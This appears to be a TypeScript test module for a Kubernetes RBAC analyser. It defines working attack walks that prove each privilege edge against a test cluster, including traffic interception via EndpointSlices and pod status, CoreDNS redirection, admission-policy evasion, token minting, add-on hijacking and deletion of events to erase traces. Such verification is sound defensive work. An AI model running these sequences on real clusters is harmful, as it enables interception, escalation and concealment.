import { field, itemsOf } from '#test/cluster/client';
import { accepted, may, merge, reads, soon, type Ask, type Walk, type Walker } from './walk.ts';

const admissionGroup = 'admissionregistration.k8s.io';
const containers = [{ name: 'a', image: 'registry.example.com/a:1' }];
const noFields = {};

/** Whether a ConfigMap is let in; nothing is stored. */
const letsIn = async (ask: Ask, namespace: string): Promise<boolean> => {
  const map = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'any', namespace } };
  return (await ask('POST', `/api/v1/namespaces/${namespace}/configmaps?dryRun=All`, map)).status < 300;
};

/** The guard works first; then, after what the walker does, it does not. */
const passes = async ({ ask, namespace }: Walker, act: () => Promise<boolean>): Promise<boolean> => {
  if (!(await soon(async () => !(await letsIn(ask, namespace)), 20_000))) throw new Error('Nothing is refused.');
  return (await act()) && soon(() => letsIn(ask, namespace), 20_000);
};

const service = (namespace: string, type = 'ClusterIP') => ({
  is: `Service ${namespace}/web`,
  spec: { type, selector: { app: 'web' }, ports: [{ port: 80 }] },
});

const podOf = (namespace: string, more: object = noFields) => ({
  is: `Pod ${namespace}/web`,
  metadata: { labels: { app: 'web' } },
  spec: { containers, ...more },
});

/** R29, R30, R45, R46: guardrails that are objects. */
const guardWalks: readonly Walk[] = [
  {
    edge: 'NAMESPACE_LABEL_BYPASS',
    name: 'takes the label away by which a policy selects the namespace, with a RoleBinding in it',
    to: () => 'impact:guardrails-off',
    grants: ({ user, namespace }) => [
      { to: `user:${user}`, in: namespace, clusterRole: false, can: ['create configmaps'] },
      { to: `user:${user}`, in: namespace, clusterRole: true, can: ['patch namespaces'] },
    ],
    objects: ({ id, namespace }) => [
      { is: `Namespace ${namespace}`, metadata: { labels: { guarded: id } } },
      {
        is: `ValidatingAdmissionPolicy ${id}`,
        spec: {
          matchConstraints: {
            resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['configmaps'] }],
          },
          validations: [{ expression: "object.metadata.name != 'any'" }],
        },
      },
      {
        is: `ValidatingAdmissionPolicyBinding ${id}`,
        spec: {
          policyName: id,
          validationActions: ['Deny'],
          matchResources: { namespaceSelector: { matchLabels: { guarded: id } } },
        },
      },
    ],
    fix: { withoutGrant: 1 },
    walk: walker =>
      passes(walker, () => {
        const path = `/api/v1/namespaces/${walker.namespace}`;
        return accepted(() => walker.ask('PATCH', path, { metadata: { labels: { guarded: null } } }, merge));
      }),
  },
  {
    edge: 'QUOTA_TAMPER',
    name: 'deletes the quota, and what it refused is accepted',
    to: () => 'impact:denial-of-service',
    grants: ({ user, namespace }) => [
      { to: `user:${user}`, in: namespace, clusterRole: false, can: ['create configmaps'] },
      { to: `user:${user}`, in: namespace, clusterRole: false, can: ['delete resourcequotas'] },
    ],
    objects: ({ namespace }) => [{ is: `ResourceQuota ${namespace}/limits`, spec: { hard: { 'count/configmaps': '0' } } }],
    fix: { withoutGrant: 1 },
    walk: walker =>
      passes(walker, () => accepted(() => walker.ask('DELETE', `/api/v1/namespaces/${walker.namespace}/resourcequotas/limits`))),
  },
  {
    edge: 'MUTATING_POLICY_REWRITE',
    name: 'makes a policy that is bound add a container',
    to: () => 'admin',
    grants: ({ id, user }) => [
      { to: `user:${user}`, clusterRole: false, can: [`patch mutatingadmissionpolicies@${admissionGroup} named ${id}`] },
    ],
    objects: ({ id, namespace }) => [
      {
        is: `MutatingAdmissionPolicy ${id}`,
        spec: {
          reinvocationPolicy: 'Never',
          matchConstraints: {
            namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': namespace } },
            resourceRules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }],
          },
          mutations: [
            {
              patchType: 'ApplyConfiguration',
              applyConfiguration: { expression: 'Object{metadata: Object.metadata{labels: {"seen": "yes"}}}' },
            },
          ],
        },
      },
      { is: `MutatingAdmissionPolicyBinding ${id}`, spec: { policyName: id } },
    ],
    fix: { withoutGrant: 0 },
    walk: async ({ ask, cluster, id, namespace }) => {
      const expression =
        'Object{spec: Object.spec{containers: [Object.spec.containers{name: "mine", image: "example.com/mine"}]}}';
      const mutations = [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression } }];
      const path = `/apis/${admissionGroup}/v1/mutatingadmissionpolicies/${id}`;
      if (!(await accepted(() => ask('PATCH', path, { spec: { mutations } }, merge)))) return false;
      const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { generateName: 'theirs-', namespace }, spec: { containers } };
      return soon(async () => {
        const answer = await cluster.api('POST', `/api/v1/namespaces/${namespace}/pods?dryRun=All`, pod);
        return JSON.stringify(answer.body).includes('example.com/mine');
      }, 20_000);
    },
  },
];

/** R52: names that bindings have. */
const claimWalks: readonly Walk[] = [
  {
    edge: 'CLAIM_ACCOUNT_IN_NEW_NAMESPACE',
    name: 'makes the namespace, the account and its token',
    to: ({ id }) => `sa:${id}-gone/owner`,
    grants: ({ id, user }) => [
      { to: `sa:${id}-gone/owner`, clusterRole: false, can: ['list secrets'] },
      { to: `user:${user}`, clusterRole: false, can: ['create namespaces'] },
      { to: `user:${user}`, clusterRole: false, can: ['create serviceaccounts,serviceaccounts/token'] },
    ],
    fix: { withoutGrant: 1 },
    walk: async walker => {
      const { ask, id } = walker;
      const namespace = `${id}-gone`;
      const accounts = `/api/v1/namespaces/${namespace}/serviceaccounts`;
      const owner = { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name: 'owner', namespace } };
      const made = await accepted(
        () => ask('POST', '/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: namespace } }),
        () => ask('POST', accounts, owner),
      );
      if (!made) return false;
      const request = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: noFields };
      const token = field((await ask('POST', `${accounts}/owner/token`, request)).body, 'status', 'token');
      return typeof token === 'string' && reads(walker.with({ token }), '/api/v1/secrets');
    },
  },
  {
    edge: 'CLAIM_ROLE',
    name: 'makes the Role that another’s binding waits for, out of rights of its own',
    to: () => 'impact:dormant-grant',
    grants: ({ user, mate, namespace }) => [
      { to: `user:${mate}`, in: namespace, clusterRole: false, role: 'gone', can: [] },
      { to: `user:${user}`, in: namespace, clusterRole: false, can: ['create roles@rbac.authorization.k8s.io'] },
      { to: `user:${user}`, in: namespace, clusterRole: false, can: ['list configmaps'] },
    ],
    fix: { withoutGrant: 1 },
    walk: async ({ ask, asMate, namespace }) => {
      const wanted = { verb: 'list', resource: 'configmaps', namespace };
      if (await may(asMate, wanted)) throw new Error('The right is there before.');
      const path = `/apis/rbac.authorization.k8s.io/v1/namespaces/${namespace}/roles`;
      return (
        (await accepted(() => ask('POST', path, listsConfigMaps('Role', { name: 'gone', namespace })))) &&
        soon(() => may(asMate, wanted))
      );
    },
  },
  {
    edge: 'CLAIM_CLUSTER_ROLE',
    name: 'makes the ClusterRole that another’s binding waits for',
    to: () => 'impact:dormant-grant',
    grants: ({ id, user, mate }) => [
      { to: `user:${mate}`, clusterRole: false, role: `${id}-gone`, can: [] },
      { to: `user:${user}`, clusterRole: false, can: ['create clusterroles@rbac.authorization.k8s.io'] },
      { to: `user:${user}`, clusterRole: false, can: ['list configmaps'] },
    ],
    fix: { withoutGrant: 1 },
    walk: async ({ ask, asMate, id }) => {
      const path = '/apis/rbac.authorization.k8s.io/v1/clusterroles';
      return (
        (await accepted(() => ask('POST', path, listsConfigMaps('ClusterRole', { name: `${id}-gone` })))) &&
        soon(() => may(asMate, { verb: 'list', resource: 'configmaps' }))
      );
    },
  },
];

function listsConfigMaps(kind: string, metadata: object): object {
  const rules = [{ apiGroups: [''], resources: ['configmaps'], verbs: ['list'] }];
  return { apiVersion: 'rbac.authorization.k8s.io/v1', kind, metadata, rules };
}

/** A walk that is one request of one right in the walker's namespace. */
const inNamespace = (can: string, walk: Omit<Walk, 'grants' | 'fix'>): Walk => ({
  ...walk,
  grants: ({ user, namespace }) => [{ to: `user:${user}`, in: namespace, clusterRole: false, can: [can] }],
  fix: { withoutGrant: 0 },
});

/** The same of a right in the cluster; `can` may name the walk's own object. */
const inCluster = (can: (id: string) => string, walk: Omit<Walk, 'grants' | 'fix'>): Walk => ({
  ...walk,
  grants: ({ id, user }) => [{ to: `user:${user}`, clusterRole: false, can: [can(id)] }],
  fix: { withoutGrant: 0 },
});

/** R39 to R42, R45: the network. */
const networkWalks: readonly Walk[] = [
  inNamespace('create endpointslices@discovery.k8s.io', {
    edge: 'ENDPOINTS_HIJACK',
    name: 'adds an address of its own to a Service',
    to: () => 'impact:traffic-interception',
    objects: ({ namespace }) => [service(namespace)],
    walk: ({ ask, namespace }) =>
      accepted(() =>
        ask('POST', `/apis/discovery.k8s.io/v1/namespaces/${namespace}/endpointslices`, {
          apiVersion: 'discovery.k8s.io/v1',
          kind: 'EndpointSlice',
          metadata: { name: 'mine', namespace, labels: { 'kubernetes.io/service-name': 'web' } },
          addressType: 'IPv4',
          endpoints: [{ addresses: ['203.0.113.9'] }],
          ports: [{ port: 80 }],
        }),
      ),
  }),
  inNamespace('patch pods/status', {
    edge: 'POD_STATUS',
    name: 'has a Service send to an address of its own',
    to: () => 'impact:traffic-interception',
    objects: ({ id, namespace }) => [`Node ${id}`, service(namespace), podOf(namespace, { nodeName: id })],
    walk: async ({ ask, cluster, namespace }) => {
      const ip = '203.0.113.10';
      const status = { phase: 'Running', podIP: ip, podIPs: [{ ip }], conditions: [{ type: 'Ready', status: 'True' }] };
      const path = `/api/v1/namespaces/${namespace}/pods/web/status`;
      if (!(await accepted(() => ask('PATCH', path, { status }, merge)))) return false;
      return soon(async () => {
        const slices = await cluster.api('GET', `/apis/discovery.k8s.io/v1/namespaces/${namespace}/endpointslices`);
        return JSON.stringify(itemsOf(slices)).includes(ip);
      }, 20_000);
    },
  }),
  inNamespace('create services', {
    edge: 'SERVICE_EXTERNAL_IP',
    name: 'claims an address',
    to: () => 'impact:address-takeover',
    walk: ({ ask, namespace }) =>
      accepted(() =>
        ask('POST', `/api/v1/namespaces/${namespace}/services`, {
          apiVersion: 'v1',
          kind: 'Service',
          metadata: { name: 'mine', namespace },
          spec: { externalIPs: ['203.0.113.11'], ports: [{ port: 443 }], selector: { app: 'mine' } },
        }),
      ),
  }),
  inNamespace('patch services/status', {
    edge: 'SERVICE_STATUS_IP',
    name: 'claims an address by the status of a load balancer',
    to: () => 'impact:address-takeover',
    objects: ({ namespace }) => [service(namespace, 'LoadBalancer')],
    walk: ({ ask, namespace }) => {
      const status = { loadBalancer: { ingress: [{ ip: '203.0.113.12' }] } };
      return accepted(() => ask('PATCH', `/api/v1/namespaces/${namespace}/services/web/status`, { status }, merge));
    },
  }),
  inNamespace('delete networkpolicies@networking.k8s.io named deny', {
    edge: 'NETPOL_TAMPER',
    name: 'deletes what isolates the pods',
    to: () => 'impact:network-isolation-lost',
    objects: ({ namespace }) => [{ is: `NetworkPolicy ${namespace}/deny`, spec: { podSelector: noFields } }],
    walk: ({ ask, namespace }) =>
      accepted(() => ask('DELETE', `/apis/networking.k8s.io/v1/namespaces/${namespace}/networkpolicies/deny`)),
  }),
  inNamespace('patch pods named web', {
    edge: 'POD_LABEL_BYPASS',
    name: 'takes a pod out of the policy that selects it',
    to: () => 'impact:network-isolation-lost',
    objects: ({ namespace }) => [
      podOf(namespace),
      { is: `NetworkPolicy ${namespace}/deny`, spec: { podSelector: { matchLabels: { app: 'web' } } } },
    ],
    walk: ({ ask, namespace }) => {
      const metadata = { labels: { app: 'other' } };
      return accepted(() => ask('PATCH', `/api/v1/namespaces/${namespace}/pods/web`, { metadata }, merge));
    },
  }),
];

/** R34, R38, R41, R42, R44, R46, R49: nodes, storage, devices, add-ons and the peace of the cluster. */
const clusterWalks: readonly Walk[] = [
  inCluster(id => `patch nodes/status named ${id}`, {
    edge: 'NODE_STATUS',
    name: 'makes a node look lost',
    to: () => 'impact:workload-steering',
    objects: ({ id }) => [`Node ${id}`],
    walk: ({ ask, id }) => {
      const status = { conditions: [{ type: 'Ready', status: 'Unknown' }] };
      return accepted(() => ask('PATCH', `/api/v1/nodes/${id}/status`, { status }, merge));
    },
  }),
  inNamespace('create pods/binding named web', {
    edge: 'POD_BINDING',
    name: 'sends a waiting pod to a node of choice',
    to: () => 'impact:workload-steering',
    objects: ({ id, namespace }) => [`Node ${id}`, podOf(namespace)],
    walk: async ({ ask, cluster, id, namespace }) => {
      const target = { apiVersion: 'v1', kind: 'Node', name: id };
      const binding = { apiVersion: 'v1', kind: 'Binding', metadata: { name: 'web', namespace }, target };
      const path = `/api/v1/namespaces/${namespace}/pods/web`;
      if (!(await accepted(() => ask('POST', `${path}/binding`, binding)))) return false;
      return field((await cluster.api('GET', path)).body, 'spec', 'nodeName') === id;
    },
  }),
  inCluster(() => 'create,delete storageclasses@storage.k8s.io', {
    edge: 'STORAGECLASS_WRITE',
    name: 'has the claims of others made by a class of its own',
    to: () => 'impact:tenant-data',
    walk: async ({ ask, cluster, id, namespace }) => {
      const path = '/apis/storage.k8s.io/v1/storageclasses';
      const own = {
        apiVersion: 'storage.k8s.io/v1',
        kind: 'StorageClass',
        metadata: { name: id, annotations: { 'storageclass.kubernetes.io/is-default-class': 'true' } },
        provisioner: 'example.com/mine',
      };
      if (!(await accepted(() => ask('POST', path, own)))) return false;
      const spec = { accessModes: ['ReadWriteOnce'], resources: { requests: { storage: '1Gi' } } };
      const claim = { apiVersion: 'v1', kind: 'PersistentVolumeClaim', metadata: { name: 'theirs', namespace }, spec };
      const taken = await soon(async () => {
        const answer = await cluster.api('POST', `/api/v1/namespaces/${namespace}/persistentvolumeclaims?dryRun=All`, claim);
        return field(answer.body, 'spec', 'storageClassName') === id;
      });
      await ask('DELETE', `${path}/${id}`);
      return taken;
    },
  }),
  inCluster(() => 'create priorityclasses@scheduling.k8s.io', {
    edge: 'PRIORITY_CLASS_WRITE',
    name: 'gives pods the right to drive others out',
    to: () => 'impact:denial-of-service',
    walk: async ({ ask, cluster, id, namespace }) => {
      const own = { apiVersion: 'scheduling.k8s.io/v1', kind: 'PriorityClass', metadata: { name: id }, value: 900_000_000 };
      if (!(await accepted(() => ask('POST', '/apis/scheduling.k8s.io/v1/priorityclasses', own)))) return false;
      const spec = { containers, priorityClassName: id };
      const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'first', namespace }, spec };
      return soon(async () => {
        const answer = await cluster.api('POST', `/api/v1/namespaces/${namespace}/pods?dryRun=All`, pod);
        return field(answer.body, 'spec', 'priority') === 900_000_000;
      });
    },
  }),
  inCluster(() => 'deletecollection events', {
    edge: 'EVENTS_TAMPER',
    name: 'deletes all events of a namespace',
    to: () => 'impact:traces-removed',
    objects: ({ namespace }) => [
      { is: `Event ${namespace}/seen`, involvedObject: { kind: 'Pod', namespace, name: 'web' }, reason: 'Seen', message: 'seen' },
    ],
    walk: async ({ ask, cluster, namespace }) => {
      const path = `/api/v1/namespaces/${namespace}/events`;
      return (await accepted(() => ask('DELETE', path))) && itemsOf(await cluster.api('GET', path)).length === 0;
    },
  }),
  inCluster(id => `delete persistentvolumes named ${id}`, {
    edge: 'DELETE_ANYTHING',
    name: 'deletes a volume of the cluster',
    to: () => 'impact:data-loss',
    objects: ({ id }) => [
      {
        is: `PersistentVolume ${id}`,
        spec: { capacity: { storage: '1Gi' }, accessModes: ['ReadWriteOnce'], hostPath: { path: '/data' } },
      },
    ],
    walk: ({ ask, id }) => accepted(() => ask('DELETE', `/api/v1/persistentvolumes/${id}`)),
  }),
  {
    edge: 'LEASE_WRITE',
    name: 'holds a Lease as another',
    to: () => 'impact:controllers-stopped',
    grants: ({ id, user }) => [
      { to: `user:${user}`, in: 'kube-system', clusterRole: false, can: [`patch leases@coordination.k8s.io named ${id}`] },
    ],
    objects: ({ id }) => [{ is: `Lease kube-system/${id}`, spec: { holderIdentity: 'controller' } }],
    fix: { withoutGrant: 0 },
    walk: ({ ask, id }) => {
      const path = `/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/${id}`;
      return accepted(() => ask('PATCH', path, { spec: { holderIdentity: 'nobody' } }, merge));
    },
  },
  {
    edge: 'DRA_ADMIN_RELABEL',
    name: 'makes its namespace one for administrators of devices',
    to: () => 'impact:device-data',
    grants: ({ user, namespace }) => [
      { to: `user:${user}`, in: namespace, clusterRole: false, can: ['create resourceclaims@resource.k8s.io'] },
      { to: `user:${user}`, in: namespace, clusterRole: true, can: ['patch namespaces'] },
    ],
    objects: ({ id }) => [{ is: `DeviceClass ${id}`, spec: noFields }],
    fix: { withoutGrant: 1 },
    walk: async ({ ask, id, namespace }) => {
      const exactly = { deviceClassName: id, adminAccess: true, allocationMode: 'All' };
      const claim = {
        apiVersion: 'resource.k8s.io/v1',
        kind: 'ResourceClaim',
        metadata: { name: 'mine', namespace },
        spec: { devices: { requests: [{ name: 'all', exactly }] } },
      };
      const path = `/apis/resource.k8s.io/v1/namespaces/${namespace}/resourceclaims?dryRun=All`;
      const isAllowed = async (): Promise<boolean> => (await ask('POST', path, claim)).status < 300;
      if (await isAllowed()) throw new Error('adminAccess is allowed without the label.');
      const metadata = { labels: { 'resource.kubernetes.io/admin-access': 'true' } };
      return (await accepted(() => ask('PATCH', `/api/v1/namespaces/${namespace}`, { metadata }, merge))) && soon(isAllowed);
    },
  },
  {
    edge: 'ADDON_HIJACK_DEPLOYMENT',
    name: 'has an add-on run as another account, with an image of its own',
    to: ({ id }) => `workload:kube-system/Deployment/${id}`,
    grants: ({ id, user }) => [
      { to: `user:${user}`, in: 'kube-system', clusterRole: false, can: [`patch deployments@apps named ${id}`] },
    ],
    objects: ({ id }) => [
      `ServiceAccount kube-system/${id}`,
      {
        is: `Deployment kube-system/${id}`,
        spec: {
          replicas: 1,
          selector: { matchLabels: { app: id } },
          template: { metadata: { labels: { app: id } }, spec: { containers } },
        },
      },
    ],
    fix: { withoutGrant: 0 },
    walk: async ({ ask, cluster, id }) => {
      const spec = { serviceAccountName: id, containers: [{ name: 'a', image: 'example.com/mine' }] };
      const path = `/apis/apps/v1/namespaces/kube-system/deployments/${id}`;
      if (!(await accepted(() => ask('PATCH', path, { spec: { template: { spec } } }, merge)))) return false;
      return soon(async () => {
        const pods = await cluster.api('GET', `/api/v1/namespaces/kube-system/pods?labelSelector=app%3D${id}`);
        return itemsOf(pods).some(pod => field(pod, 'spec', 'serviceAccountName') === id);
      }, 20_000);
    },
  },
  {
    edge: 'COREDNS_CM',
    name: 'changes how names are answered',
    to: () => 'impact:dns-interception',
    grants: ({ user }) => [
      { to: `user:${user}`, in: 'kube-system', clusterRole: false, can: ['patch configmaps named coredns'] },
    ],
    objects: () => [{ is: 'ConfigMap kube-system/coredns', data: { Corefile: '.:53 { errors }' } }],
    fix: { withoutGrant: 0 },
    walk: ({ ask }) => {
      const data = { Corefile: '.:53 { forward . 203.0.113.13 }' };
      return accepted(() => ask('PATCH', '/api/v1/namespaces/kube-system/configmaps/coredns', { data }, merge));
    },
  },
];

/** R29 to R52, beside those that admission and platform walks show. */
export const harmWalks: readonly Walk[] = [...claimWalks, ...networkWalks, ...clusterWalks, ...guardWalks];
